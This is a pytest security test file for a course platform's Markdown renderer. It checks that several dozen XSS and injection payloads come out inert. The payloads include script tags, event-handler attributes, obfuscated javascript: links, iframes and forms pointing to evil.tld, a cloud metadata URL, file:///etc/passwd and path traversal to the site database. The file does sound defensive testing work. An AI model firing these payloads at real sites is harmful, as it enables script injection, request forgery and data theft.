"""Instructor Markdown cannot inject script, styles, event handlers, frames or foreign images: each payload goes
through `render_markdown` (the one renderer of the learner page, the editor preview and the published module)
and comes out inert."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from kaptrain.content.render import render_markdown

UPLOAD = "/uploads/0123456789abcdef0123456789abcdef.png"

PAYLOADS = [
    # Raw HTML: markdown-it is set to show it as text; nh3 would strip it if it ever came through.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.tld/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{UPLOAD}" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body { display: none }</style>",
    '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">cover the page</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<iframe src="https://evil.tld"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.tld/x.swf"></object>',
    '<embed src="https://evil.tld/x.swf">',
    '<a href="#" onclick="alert(1)">click</a>',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    '<form action="https://evil.tld"><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.tld/">',
    '<link rel="stylesheet" href="https://evil.tld/x.css">',
    '<a href="jav&#x61;script:alert(1)">entity-obfuscated</a>',
    "<!--><script>alert(1)</script>-->",
    # Links in Markdown syntax, and autolinks.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](%6A%61%76%61script:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "title" onclick="alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # Images: only the site's own uploads.
    "![x](https://evil.tld/track.png)",
    "![x](http://169.254.169.254/latest/meta-data)",
    "![x](//evil.tld/uploads/0123456789abcdef0123456789abcdef.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "![x](/uploads/0123456789abcdef0123456789abcdef.svg)",
    "![x](/uploads/../../instance/kaptrain.sqlite3)",
    f"![x]({UPLOAD}?onerror=alert(1))",
    f'![x]({UPLOAD} "title" onerror="alert(1)")',
    '![x" onerror="alert(1)](https://evil.tld/x.png)',
    "![x][img]\n\n[img]: https://evil.tld/x.png",
    # Markdown's own constructs carrying attributes.
    '## Heading" onmouseover="alert(1)',
    "::: note onclick=alert(1)\ntext\n:::",
    '::: evil" style="position:fixed\ntext\n:::',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
]

FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "body",
    "details",
    "frame",
    "frameset",
    "applet",
    "template",
}
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "id", "start", "class", "src", "alt"}


class TagCollector(HTMLParser):
    """The real tags and attributes of an HTML string, as a browser parses them (escaped text is not a tag)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def parsed(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    return collector.tags


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_renders_inert(payload):
    html = render_markdown(f"Some text.\n\n{payload}\n\nMore text.\n")
    lowered = html.lower()
    # Markup, not text: a payload shown as text is escaped (&lt;script), which is what we want.
    for tag in ("<script", "<style", "<iframe", "<object", "<embed", "<svg", "<form"):
        assert tag not in lowered, (payload, html)
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.IGNORECASE), (payload, html)
    assert not re.search(r"<[^>]*\sstyle\s*=", html, re.IGNORECASE), (payload, html)
    for tag, attrs in parsed(html):
        assert tag not in FORBIDDEN_TAGS, (payload, tag)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, (payload, tag, name)
            value = (value or "").strip().lower()
            assert not value.startswith(("javascript:", "vbscript:", "data:", "file:")), (payload, name, value)
            scheme = re.match(r"([a-z][a-z0-9+.\-]*):", value)
            if name in ("href", "src") and scheme:  # without a scheme a link stays on the site (a relative path)
                assert scheme.group(1) in ("https", "mailto"), (payload, name, value)
        if tag == "img":
            src = dict(attrs).get("src")
            assert src is None or re.fullmatch(r"/uploads/[0-9a-f]{32}\.(png|jpg|gif|webp)", src), (payload, src)
            assert {name for name, _ in attrs} <= {"src", "alt"}, (payload, attrs)


def test_javascript_never_appears_in_an_attribute_even_obfuscated():
    html = "".join(render_markdown(p) for p in PAYLOADS)
    for _tag, attrs in parsed(html):
        for _name, value in attrs:
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            assert "javascript:" not in squeezed and "vbscript:" not in squeezed


def test_a_site_upload_renders_as_an_image_with_only_src_and_alt():
    html = render_markdown(f'Before.\n\n![A dosing timeline]({UPLOAD} "Timeline")\n')
    assert f'<img src="{UPLOAD}" alt="A dosing timeline">' in html
    for name in ("jpg", "gif", "webp"):
        src = UPLOAD.replace(".png", f".{name}")
        assert f'<img src="{src}" alt="x">' in render_markdown(f"![x]({src})")


def test_a_foreign_image_shows_its_alt_text_and_makes_no_request():
    html = render_markdown("See ![the dosing chart](https://evil.tld/chart.png) here.")
    assert "<img" not in html and "evil.tld" not in html
    assert "See the dosing chart here." in html


def test_an_image_inside_a_link_keeps_both_when_both_are_allowed():
    html = render_markdown(f"[![Chart]({UPLOAD})](https://example.org/source)")
    assert (
        f'<a href="https://example.org/source" rel="noopener noreferrer"><img src="{UPLOAD}" alt="Chart"></a>' in html
    )


def test_callouts_anchors_and_tables_still_render():
    html = render_markdown("## Dosing\n\n::: caution\nCheck.\n:::\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert '<h2 id="dosing">Dosing</h2>' in html and '<div class="caution">' in html
    assert "<table>" in html and "<td>1</td>" in html
